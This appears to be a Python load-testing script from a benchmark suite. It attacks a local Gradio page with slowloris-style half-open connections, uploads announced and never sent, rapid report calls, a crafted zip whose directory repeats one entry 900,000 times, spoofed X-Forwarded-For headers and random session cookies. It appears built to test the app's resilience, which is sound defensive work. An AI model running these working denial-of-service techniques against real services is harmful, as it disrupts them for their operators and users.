"""One attacker of the page, in its own process: ``python -m benchmarks.page_load.attacker ADDRESS``.

Behind the proxy, it has an address of its own. Until its standard input is closed, it repeats all of these at the same
time: uploads that are announced and never sent; ``report`` calls, 29 a second; a zip whose directory has 900,000
entries, opened as a run; a new cookie for every request, also to train; and connections that send half a request.

It prints one JSON object at the end: how often each attack got which answer.
"""

import argparse
import io
import json
import secrets
import socket
import struct
import sys
import threading
import time
import zipfile
from collections import Counter
from collections.abc import Callable
from contextlib import suppress
from urllib.parse import urlsplit

import httpx

from benchmarks.page_load.app_process import COOKIE, SHIPPED_RUN, PageClient
from ui.serving.connections import raise_file_limit

ADDRESS = "198.51.100.23"  # address of the attacker behind the proxy
HEAD = f"Host: 127.0.0.1\r\nX-Forwarded-For: {ADDRESS}\r\n"
ANNOUNCED, ANNOUNCED_BYTES = 42, 40_000_000
SECONDS_HELD = 10.0  # seconds to hold connections before opening new ones
REPORTS_PER_SECOND = 29
ZIP_ENTRIES, SECONDS_BETWEEN_ZIPS = 900_000, 10.0
TRAININGS, COOKIES, COOKIES_PER_SECOND = 24, 10_080, 100
LONG = {"training.steps": 20_000, "training.evaluate_every": 1_000}
HALF_OPEN = 1_010
Count = Callable[[str], None]


def announce_uploads(host: str, port: int, count: Count, is_over: threading.Event) -> None:
    """Announce uploads in requests without a cookie, and send none of their bytes."""
    head = f"POST /gradio_api/upload HTTP/1.1\r\n{HEAD}Content-Length: {ANNOUNCED_BYTES}\r\n"
    head += "Content-Type: multipart/form-data; boundary=b\r\n\r\n"
    held = [_sent(host, port, head) for _ in range(ANNOUNCED)]
    is_over.wait(SECONDS_HELD)
    for each in held:
        count(_answer_on(each))


def half_open(host: str, port: int, count: Count, is_over: threading.Event) -> None:
    """Hold connections that send no more than the first lines of a request."""
    held = [_sent(host, port, f"GET / HTTP/1.1\r\n{HEAD}X: ") for _ in range(HALF_OPEN)]
    is_over.wait(SECONDS_HELD)
    for each in held:
        count(_answer_on(each))


def _sent(host: str, port: int, text: str) -> socket.socket | None:
    try:
        connection = socket.create_connection((host, port), timeout=5)
        connection.sendall(text.encode())
    except OSError:
        return None
    return connection


def _answer_on(connection: socket.socket | None) -> str:
    """Close a connection; return its status, or what happened to it."""
    if connection is None:
        return "refused"
    with connection:
        connection.setblocking(False)
        try:
            answer = connection.recv(100).split(b" ")
        except BlockingIOError:
            return "no answer"
        except OSError:
            return "closed"
    return answer[1].decode() if len(answer) > 1 else "closed"


def report(page: PageClient, count: Count, is_over: threading.Event) -> None:
    """Ask for a report without reading it."""
    is_over.wait(1 / REPORTS_PER_SECOND)
    count(str(page.http.post("/gradio_api/call/report", json={"data": [SHIPPED_RUN]}).status_code))


def large_zip(num_entries: int) -> bytes:
    """Return a zip with one empty file, which its directory lists many times; the zip states one entry."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("a", b"")
    content = file.getvalue()
    size, start = struct.unpack_from("<2L", content, len(content) - 10)
    directory = content[start : start + size] * num_entries
    return content[:start] + directory + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 1, 1, len(directory), start, 0)


def open_zip(page: PageClient, event: int, content: bytes, count: Count, is_over: threading.Event) -> None:
    """Upload a zip and open it as a run."""
    uploaded = page.http.post("/gradio_api/upload", files={"files": ("run.zip", content)})
    if uploaded.status_code != 200:
        count(str(uploaded.status_code))
    else:
        file = {"path": uploaded.json()[0], "orig_name": "run.zip", "meta": {"_type": "gradio.FileData"}}
        output = page.trigger(event, file)
        count("run refused" if '"problem": true' in json.dumps(output) else "run opened")
    is_over.wait(SECONDS_BETWEEN_ZIPS)


def invent_cookies(address: str, count: Count, is_over: threading.Event) -> None:
    """Train and then view the page, each time as a new visitor."""
    for _ in range(TRAININGS):
        page = _page(address)
        try:
            page.call_endpoint("train", "tiny", LONG)
            count("run started")
        except RuntimeError:
            count("run refused")
        finally:
            page.close()
    with httpx.Client(base_url=address, timeout=60, headers={"x-forwarded-for": ADDRESS}) as http:
        for _ in range(COOKIES):
            if is_over.wait(1 / COOKIES_PER_SECOND):
                return
            headers = {"cookie": f"{COOKIE}={secrets.token_urlsafe(32)}"}
            count(str(http.get("/health", headers=headers).status_code))


def _page(address: str) -> PageClient:
    page = PageClient(address)
    page.http.headers["x-forwarded-for"] = ADDRESS
    return page


def attack(address: str, is_over: threading.Event) -> dict[str, Counter[str]]:
    """Attack until the event; return how often each attack got which answer, a status or what happened."""
    parts = urlsplit(address)
    host, port = parts.hostname or "", parts.port or 80
    reader, opener = _page(address), _page(address)
    opener.open()
    event, content = opener.event_of("open-run", "upload"), large_zip(ZIP_ENTRIES)
    attacks: dict[str, Callable[[Count], None]] = {
        "uploads announced": lambda count: announce_uploads(host, port, count, is_over),
        "report, 29 a second": lambda count: report(reader, count, is_over),
        "zip of 900,000 entries": lambda count: open_zip(opener, event, content, count, is_over),
        "invented cookies": lambda count: invent_cookies(address, count, is_over),
        "half-open connections": lambda count: half_open(host, port, count, is_over),
    }
    answers: dict[str, Counter[str]] = {name: Counter() for name in attacks}

    def repeat(name: str) -> None:
        while not is_over.is_set():
            try:
                attacks[name](lambda answer: answers[name].update([answer]))
            except (httpx.HTTPError, OSError) as error:
                answers[name][type(error).__name__] += 1
                is_over.wait(0.1)

    threads = [threading.Thread(target=repeat, args=(name,), daemon=True) for name in attacks]
    for each in threads:
        each.start()
    is_over.wait()
    deadline = time.monotonic() + 2 * SECONDS_HELD
    for each in threads:
        each.join(timeout=max(0.0, deadline - time.monotonic()))
    return answers


def _wait_for_end(is_over: threading.Event) -> None:
    sys.stdin.read()
    is_over.set()


def main() -> None:
    """Attack until standard input is closed."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("address")
    options = parser.parse_args()
    raise_file_limit()
    is_over = threading.Event()
    threading.Thread(target=_wait_for_end, args=(is_over,), daemon=True).start()
    answers = attack(options.address, is_over)
    with suppress(BrokenPipeError):
        print(json.dumps(answers), flush=True)


if __name__ == "__main__":
    main()
